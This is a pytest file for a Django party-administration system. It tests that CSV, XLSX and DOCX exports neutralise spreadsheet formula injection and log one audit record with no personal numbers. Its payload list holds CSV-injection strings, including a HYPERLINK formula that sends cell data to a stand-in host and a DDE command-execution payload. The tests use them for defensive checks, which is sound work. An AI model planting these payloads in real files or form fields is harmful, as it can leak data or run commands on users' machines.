"""Every export is guarded against formula injection and written to the audit trail (GB/T 22239-2019 8.1.4.3).

The security probe: a username typed at the login form such as `=HYPERLINK("http://127.0.0.1/x?"&A1,"点击")` was
written verbatim into the audit CSV (page and `audit_export`), where a spreadsheet evaluated it. Then, per export page
and per report command: the file holds no formula, and exactly one EXPORT record names the actor, what was exported,
the filter, the row count and how (page or command), with no full ID number or phone in it.

The world (tests/scope.py): R > C1 > {A, B}, X > XB; the committee user on C1, the audit admin without organization.
Organization A is renamed to a formula for the export tests, so that its name reaches every file."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.core.management import call_command
from django.forms.models import model_to_dict
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from dangjian.accounts.roles import Role
from dangjian.audit.models import AuditAction, AuditEvent
from dangjian.committees.forms import TermFilterForm
from dangjian.committees.selectors.setup import ReportPeriod
from dangjian.core.exports import FORMULA_TRIGGERS
from dangjian.orglife.selectors.absence import absence_months
from dangjian.schools.tests.factories import ranked_schools
from dangjian.supervision.tests.factories import institution

PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1/x?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1+1",
    "-1",
]
FORMULA_NAME = '=HYPERLINK("http://127.0.0.1/x?"&A1,"点击")'
YEAR = timezone.localdate().year
LAST_YEAR = YEAR - 1
OBJECT_REPR = 7  # the 对象 column of the audit CSV


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def is_number(text: str) -> bool:
    try:
        float(text.rstrip("%"))
    except ValueError:
        return False
    return True


def assert_no_formula_in_csv(rows: list[list[str]]) -> None:
    """No cell starts with a trigger, but a number (a negative shortfall stays -2.0)."""
    for row in rows:
        for cell in row:
            assert not (cell.startswith(FORMULA_TRIGGERS) and not is_number(cell)), (cell, row)


def assert_no_formula_in_xlsx(content: bytes) -> set[str]:
    """No cell of any sheet is a formula, and every text cell starting with a trigger has the quote prefix. The
    texts of the workbook, to look for what was written."""
    texts = set()
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


def only_export() -> AuditEvent:
    events = list(AuditEvent.objects.filter(action=AuditAction.EXPORT))
    assert len(events) == 1, [(e.object_repr, e.detail) for e in events]
    return events[0]


def assert_no_personal_numbers(world, event: AuditEvent) -> None:
    text = json.dumps(model_to_dict(event), default=str, ensure_ascii=False)
    for members in world.members.values():
        for member in members:
            assert member.id_number not in text
            assert not member.phone or member.phone not in text


# ---------------------------------------------------------------------------------------------------------
# The probe: a formula typed as a username reaches the audit CSV as text.


def fail_logins() -> None:
    client = Client()
    for username in PAYLOADS:
        response = client.post("/login/", {"username": username, "password": "Wrong#Pass2026"})
        assert response.status_code == 200


def test_the_audit_csv_page_neutralises_a_formula_typed_as_a_username(world):
    fail_logins()
    response = world.client(Role.AUDIT_ADMIN).get("/audit/export.csv", {"action": "login_failure"})
    assert response.status_code == 200
    rows = csv_rows(b"".join(response.streaming_content).decode("utf-8"))
    assert sorted(row[OBJECT_REPR] for row in rows[1:]) == sorted("'" + payload for payload in PAYLOADS)
    assert_no_formula_in_csv(rows)
    assert only_export().detail["rows"] == len(rows) - 1 == len(PAYLOADS)  # the export's own record is not in it


def test_the_audit_export_command_neutralises_a_formula_typed_as_a_username(world, tmp_path):
    fail_logins()
    target = tmp_path / "audit.csv"
    call_command("audit_export", output=str(target), stderr=io.StringIO())
    rows = csv_rows(target.read_text(encoding="utf-8"))
    failures = [row for row in rows[1:] if row[3] == AuditAction.LOGIN_FAILURE]
    assert sorted(row[OBJECT_REPR] for row in failures) == sorted("'" + payload for payload in PAYLOADS)
    assert_no_formula_in_csv(rows)
    # JSON Lines is read by programs, never by a spreadsheet: there the values stay exactly as recorded.
    out = io.StringIO()
    call_command("audit_export", format="jsonl", stdout=out)
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    assert sorted(r["object_repr"] for r in records if r["action"] == AuditAction.LOGIN_FAILURE) == sorted(PAYLOADS)


# ---------------------------------------------------------------------------------------------------------
# Every export page: guarded, and one audit record.


def term_list_title() -> str:
    return f"换届提醒（{dict(TermFilterForm.STATUS_CHOICES)['ending']}）"


# (role, url, parameters, what the record names, the filter it records at least)
PAGE_EXPORTS = [
    pytest.param(
        Role.AUDIT_ADMIN,
        "/audit/export.csv",
        {"action": "login_failure"},
        "审计记录",
        {"action": "login_failure"},
        id="audit-csv",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/orglife/ledger/",
        {"org": "BJ01A", "year": YEAR, "format": "docx"},
        "组织生活台账",
        {"org": "BJ01A", "year": YEAR},
        id="orglife-ledger-docx",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/orglife/compliance/",
        {"org": "BJ01", "year": YEAR, "format": "xlsx"},
        "组织生活落实情况",
        {"org": "BJ01", "year": YEAR},
        id="orglife-compliance",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/training/hours/",
        {"org": "BJ01", "year": LAST_YEAR, "format": "xlsx"},
        "学时达标（按组织）",
        {"org": "BJ01", "year": LAST_YEAR},
        id="training-dashboard",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/training/hours/members/",
        {"org": "BJ01", "year": LAST_YEAR, "format": "xlsx"},
        "学时达标（党员明细）",
        {"org": "BJ01", "year": LAST_YEAR},
        id="training-members",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/training/hours/branch/",
        {"org": "BJ01", "year": LAST_YEAR, "format": "xlsx"},
        "学时未达标名单",
        {"org": "BJ01", "year": LAST_YEAR},
        id="training-branch",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/training/hours/reconciliation/",
        {"org": "BJ01", "year": LAST_YEAR, "format": "xlsx"},
        "年终对账",
        {"org": "BJ01", "year": LAST_YEAR},
        id="training-reconciliation",
    ),
    pytest.param(
        Role.COMMITTEE, "/supervision/", {"org": "BJ01", "format": "xlsx"}, "两个全覆盖", {"org": "BJ01"}, id="sv-dash"
    ),
    pytest.param(
        Role.COMMITTEE,
        "/supervision/institutions/",
        {"q": "13812345678", "format": "xlsx"},
        "校外培训机构",
        {"q": "138****5678"},
        id="sv-institutions",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/supervision/instructors/summary/",
        {"year": LAST_YEAR, "format": "xlsx"},
        "党建指导员年度工作汇总",
        {"year": LAST_YEAR},
        id="sv-instructors",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/supervision/points/",
        {"org": "BJ01", "year": LAST_YEAR, "format": "xlsx"},
        "过程监管积分排名",
        {"org": "BJ01", "year": LAST_YEAR},
        id="sv-points",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/supervision/visits/missing/",
        {"month": f"{LAST_YEAR}-06", "format": "xlsx"},
        "未走访机构",
        {"month": f"{LAST_YEAR}-06"},
        id="sv-missing-visits",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/committees/",
        {"org": "BJ01", "format": "xlsx"},
        term_list_title(),
        {"org": "BJ01"},
        id="committees-terms",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/committees/setup/",
        {"org": "BJ01", "format": "xlsx"},
        "组织设置问题",
        {"org": "BJ01"},
        id="cm-setup",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/committees/report/",
        {"org": "BJ01", "year": LAST_YEAR, "period": "H2", "format": "xlsx"},
        f"滨江一中党委{ReportPeriod.title(LAST_YEAR, 'H2')}",
        {"org": "BJ01", "year": str(LAST_YEAR), "period": "H2"},
        id="committees-report",
    ),
    pytest.param(
        Role.COMMITTEE,
        "/todo/absent/",
        {"org": "BJ01", "format": "xlsx"},
        None,  # 连续N个月未参加组织生活党员, N from the settings
        {"org": "BJ01"},
        id="workbench-absent",
    ),
]


@pytest.mark.parametrize("role, url, params, what, recorded", PAGE_EXPORTS)
def test_every_export_page_is_guarded_and_audited_once(world, role, url, params, what, recorded):
    org = world.orgs["A"]
    org.name = FORMULA_NAME
    org.save()
    if role == Role.AUDIT_ADMIN:
        fail_logins()
    user = world.user(role)
    response = world.client(role).get(url, params)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if url.endswith(".csv"):
        assert_no_formula_in_csv(csv_rows(content.decode("utf-8")))
    elif params["format"] == "xlsx":
        named = [text for text in assert_no_formula_in_xlsx(content) if "HYPERLINK" in text]
        assert all(text.startswith(FORMULA_NAME) for text in named), named  # the value reads back exactly
        if url == "/orglife/compliance/":
            assert named  # one row per organization and duty: A's name is there
    else:
        assert zipfile.ZipFile(io.BytesIO(content)).testzip() is None  # a Word package: no formulas in text runs

    event = only_export()
    assert (event.actor_id, event.actor_username) == (user.pk, user.username)
    assert event.object_repr == (what or f"连续{absence_months()}个月未参加组织生活党员")
    assert event.detail["via"] == "page"
    assert isinstance(event.detail["rows"], int)
    assert recorded.items() <= event.detail["filter"].items()
    assert "format" not in event.detail["filter"]
    assert_no_personal_numbers(world, event)


# ---------------------------------------------------------------------------------------------------------
# Every report command writing CSV: guarded, and one audit record naming the --as user.


def run(name: str, *args: str) -> str:
    out = io.StringIO()
    call_command(name, *args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def setup_rank_schools(world) -> None:
    ranked_schools(world.orgs["A"], LAST_YEAR, ["91.5", "70"], names=[FORMULA_NAME, "-西湖业余党校"])


def setup_institution_points(world) -> None:
    institution(world.orgs["A"], name=FORMULA_NAME)


def setup_hours_report(world) -> None:
    member = world.members["A"][0]
    member.name = FORMULA_NAME
    member.save()


# (command, arguments, setup, what the record names, the filter it records)
COMMAND_EXPORTS = [
    pytest.param(
        "rank_schools",
        ("--year", str(LAST_YEAR), "--org", "BJ01", "--format", "csv"),
        setup_rank_schools,
        "党校考评排名",
        {"org": "BJ01", "year": LAST_YEAR},
        id="rank_schools",
    ),
    pytest.param(
        "hours_report",
        ("--year", str(LAST_YEAR), "--org", "BJ01", "--format", "csv"),
        setup_hours_report,
        "学时达标报表",
        {"org": "BJ01", "year": LAST_YEAR, "level": "members"},
        id="hours_report-members",
    ),
    pytest.param(
        "hours_report",
        ("--year", str(LAST_YEAR), "--org", "BJ01", "--level", "children", "--format", "csv"),
        None,
        "学时达标报表（按组织）",
        {"org": "BJ01", "year": LAST_YEAR, "level": "children"},
        id="hours_report-children",
    ),
    pytest.param(
        "orglife_report",
        ("--year", str(YEAR), "--org", "BJ01", "--format", "csv"),
        None,
        "组织生活落实情况",
        {"org": "BJ01", "year": YEAR},
        id="orglife_report",
    ),
    pytest.param(
        "institution_points",
        ("--year", str(LAST_YEAR), "--org", "BJ01", "--format", "csv"),
        setup_institution_points,
        "过程监管积分排名",
        {"org": "BJ01", "year": LAST_YEAR},
        id="institution_points",
    ),
]


@pytest.mark.parametrize("command, args, setup, what, recorded", COMMAND_EXPORTS)
def test_every_report_command_writing_csv_is_guarded_and_audited_once(world, command, args, setup, what, recorded):
    org = world.orgs["A"]
    org.name = FORMULA_NAME
    org.save()
    if setup is not None:
        setup(world)
    user = world.user(Role.COMMITTEE)
    text = run(command, *args, "--as", user.username)
    rows = csv_rows(text)
    assert len(rows) > 1
    assert_no_formula_in_csv(rows)
    if setup is not None:
        assert any(cell == "'" + FORMULA_NAME for row in rows for cell in row), text

    event = only_export()
    assert (event.actor_id, event.actor_username) == (user.pk, user.username)
    assert event.object_repr == what
    assert (event.detail["via"], event.detail["command"], event.detail["format"]) == ("command", command, "csv")
    assert event.detail["rows"] == len(rows) - 1
    assert event.detail["filter"] == recorded
    assert_no_personal_numbers(world, event)


def test_the_ranking_csv_keeps_scores_as_numbers(world):
    setup_rank_schools(world)
    rows = csv_rows(run("rank_schools", "--year", str(LAST_YEAR), "--org", "BJ01", "--format", "csv"))
    assert [row[1:4] for row in rows[1:]] == [["'" + FORMULA_NAME, "91.50", "1"], ["'-西湖业余党校", "70.00", "2"]]


def test_the_audit_export_command_is_audited_once_as_a_command(world, tmp_path):
    call_command("audit_export", output=str(tmp_path / "audit.csv"), since="2000-01-01", stderr=io.StringIO())
    event = only_export()
    assert event.object_repr == "审计记录"
    assert event.detail["filter"] == {"since": "2000-01-01"}
    assert (event.detail["via"], event.detail["command"], event.detail["format"]) == ("command", "audit_export", "csv")


def test_a_command_without_as_records_no_actor_and_a_table_is_no_export(world):
    run("orglife_report", "--year", str(YEAR), "--org", "BJ01")  # the aligned table on a terminal: not recorded
    run("orglife_report", "--year", str(YEAR), "--org", "BJ01", "--format", "csv")
    event = only_export()
    assert (event.actor_id, event.actor_username) == (None, "")


# ---------------------------------------------------------------------------------------------------------
# The short triggers, through the audit CSV (page and command) and the ranking CSV.

SHORT_PAYLOADS = ["=1+1", "+cmd", "@x"]


def test_the_audit_csv_page_guards_short_formulas(world):
    client = Client()
    for username in SHORT_PAYLOADS:
        client.post("/login/", {"username": username, "password": "Wrong#Pass2026"})
    response = world.client(Role.AUDIT_ADMIN).get("/audit/export.csv", {"action": "login_failure"})
    rows = csv_rows(b"".join(response.streaming_content).decode("utf-8"))
    assert sorted(row[OBJECT_REPR] for row in rows[1:]) == sorted("'" + payload for payload in SHORT_PAYLOADS)


def test_the_audit_export_command_guards_short_formulas(world):
    client = Client()
    for username in SHORT_PAYLOADS:
        client.post("/login/", {"username": username, "password": "Wrong#Pass2026"})
    rows = csv_rows(run("audit_export"))
    failures = [row[OBJECT_REPR] for row in rows[1:] if row[3] == AuditAction.LOGIN_FAILURE]
    assert sorted(failures) == sorted("'" + payload for payload in SHORT_PAYLOADS)


def test_the_ranking_csv_guards_short_formulas(world):
    ranked_schools(world.orgs["A"], LAST_YEAR, ["91.5", "80", "70"], names=SHORT_PAYLOADS)
    rows = csv_rows(run("rank_schools", "--year", str(LAST_YEAR), "--org", "BJ01", "--format", "csv"))
    assert [row[1] for row in rows[1:]] == ["'" + payload for payload in SHORT_PAYLOADS]
